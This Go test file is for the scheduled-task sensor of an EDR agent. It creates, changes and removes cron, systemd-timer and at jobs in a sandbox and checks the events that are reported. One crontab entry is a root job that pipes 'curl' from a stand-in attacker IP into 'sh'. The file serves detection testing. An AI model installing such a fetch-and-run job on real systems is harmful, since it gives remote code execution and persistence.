package tasks_test

import (
	"os"
	osexec "os/exec"
	"strings"
	"testing"

	"github.com/vedette-edr/vedette/internal/agent/enrich"
	"github.com/vedette-edr/vedette/internal/agent/sensor/exec"
	"github.com/vedette-edr/vedette/internal/agent/sensor/file"
	"github.com/vedette-edr/vedette/internal/agent/sensor/kernel"
	"github.com/vedette-edr/vedette/internal/agent/sensor/sensortest"
	"github.com/vedette-edr/vedette/internal/agent/sensor/tasks"
	"github.com/vedette-edr/vedette/internal/event"
)

func start(t *testing.T) *sensortest.Recorder {
	t.Helper()
	k := sensortest.Kernel(t, kernel.Options{})
	en, err := enrich.New(enrich.Options{HashWorkers: -1})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(en.Close)
	return sensortest.Pipeline(t, en.Enrich,
		exec.New(exec.Options{Kernel: k}), file.New(file.Options{Kernel: k}), tasks.New(tasks.Options{State: t.TempDir()}))
}

func run(t *testing.T, stdin, name string, args ...string) int64 {
	t.Helper()
	c := osexec.Command(name, args...)
	c.Stdin = strings.NewReader(stdin)
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return int64(c.ProcessState.Pid())
}

// need skips the test where a program is not installed.
func need(t *testing.T, program string) {
	t.Helper()
	sensortest.Scope(t)
	if _, err := osexec.LookPath(program); err != nil {
		t.Skip("SKIPPED: ", err)
	}
}

// about matches events about the command of a task.
func about(kind event.Kind, command string) func(*event.Event) bool {
	return func(e *event.Event) bool {
		return e.Kind == kind && e.Change != nil && strings.Contains(e.Change.TaskCommand, command)
	}
}

func check(t *testing.T, e *event.Event, pid int64, program, schedule, user, how string) {
	t.Helper()
	if e.Process == nil || e.Process.PID != pid || e.Process.Name != program {
		t.Errorf("%s is of process %+v, want %s (%d)", e.Kind, e.Process, program, pid)
	}
	if c := e.Change; c.TaskSchedule != schedule || c.TaskUser != user || c.TaskType != how || c.Object != "task" {
		t.Errorf("%s %+v", e.Kind, c)
	}
}

// A line that is appended by no tool.
func TestAppend(t *testing.T) {
	sensortest.Scope(t)
	for _, dir := range []string{"/etc/cron.d", "/var/spool/cron/crontabs", "/etc/systemd/system", "/etc/cron.daily"} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	r := start(t)
	pid := run(t, "", "sh", "-c", "echo '*/5 * * * * root /tmp/vedette-a' >> /etc/cron.d/vedette")
	check(t, r.Wait(t, "created", 1, about(event.TaskCreate, "/tmp/vedette-a"))[0], pid, "dash", "*/5 * * * *", "root", "cron")
	pid = run(t, "", "sh", "-c", "echo '1 2 * * * /tmp/vedette-b' >> /var/spool/cron/crontabs/daemon; chmod 600 /var/spool/cron/crontabs/daemon")
	check(t, r.Wait(t, "created", 1, about(event.TaskCreate, "/tmp/vedette-b"))[0], pid, "dash", "1 2 * * *", "daemon", "cron")
	pid = run(t, "", "sed", "-i", "s/^1 2/3 2/", "/var/spool/cron/crontabs/daemon")
	check(t, r.Wait(t, "modified", 1, about(event.TaskModify, "/tmp/vedette-b"))[0], pid, "sed", "3 2 * * *", "daemon", "cron")
	pid = run(t, "", "rm", "/etc/cron.d/vedette")
	check(t, r.Wait(t, "deleted", 1, about(event.TaskDelete, "/tmp/vedette-a"))[0], pid, "rm", "*/5 * * * *", "root", "cron")
	pid = run(t, "[Timer]\nOnCalendar=hourly\nUnit=vedette-c.service\n", "tee", "/etc/systemd/system/vedette.timer")
	check(t, r.Wait(t, "timer", 1, about(event.TaskCreate, "vedette-c.service"))[0], pid, "tee", "OnCalendar=hourly", "root", "systemd")
	pid = run(t, "#!/bin/sh\nid\n", "tee", "/etc/cron.daily/vedette-d")
	check(t, r.Wait(t, "script", 1, about(event.TaskCreate, "/etc/cron.daily/vedette-d"))[0], pid, "tee", "daily", "root", "cron")
}

func TestCrontabProgram(t *testing.T) {
	sensortest.Scope(t) // the sandbox, or none of this
	need(t, "crontab")
	if err := os.MkdirAll("/var/spool/cron/crontabs", 0o1730); err != nil {
		t.Fatal(err)
	}
	r := start(t)
	pid := run(t, "PATH=/tmp\n0 4 * * 1 curl -s http://198.51.100.7/x | sh # vedette-e\n", "crontab", "-u", "root", "-")
	check(t, r.Wait(t, "created", 1, about(event.TaskCreate, "vedette-e"))[0], pid, "crontab", "0 4 * * 1", "root", "cron")
	r.Wait(t, "variable", 1, func(e *event.Event) bool {
		return e.Kind == event.TaskModify && e.Change.Name == "/var/spool/cron/crontabs/root" && e.Change.Fields[0] == "PATH" && e.Change.After[0] == "/tmp"
	})
	pid = run(t, "", "crontab", "-u", "root", "-r")
	check(t, r.Wait(t, "deleted", 1, about(event.TaskDelete, "vedette-e"))[0], pid, "crontab", "0 4 * * 1", "root", "cron")
}

func TestAtProgram(t *testing.T) {
	sensortest.Scope(t) // the sandbox, or none of this
	need(t, "at")
	for _, dir := range []string{"/var/spool/cron/atjobs", "/var/spool/cron/atspool"} {
		if err := os.MkdirAll(dir, 0o1770); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile("/var/spool/cron/atjobs/.SEQ", []byte("0\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	run(t, "", "chown", "-R", "daemon:daemon", "/var/spool/cron/atjobs", "/var/spool/cron/atspool")
	r := start(t)
	pid := run(t, "id > /tmp/vedette-f\n", "at", "-t", "203001020304")
	e := r.Wait(t, "created", 1, about(event.TaskCreate, "vedette-f"))[0]
	check(t, e, pid, "at", "2030-01-02T03:04:00Z", "root", "at")
	if e.Change.TaskCommand != "id > /tmp/vedette-f" {
		t.Errorf("command %q", e.Change.TaskCommand)
	}
	pid = run(t, "", "atrm", "1")
	check(t, r.Wait(t, "deleted", 1, about(event.TaskDelete, "vedette-f"))[0], pid, "at", "2030-01-02T03:04:00Z", "root", "at")
}
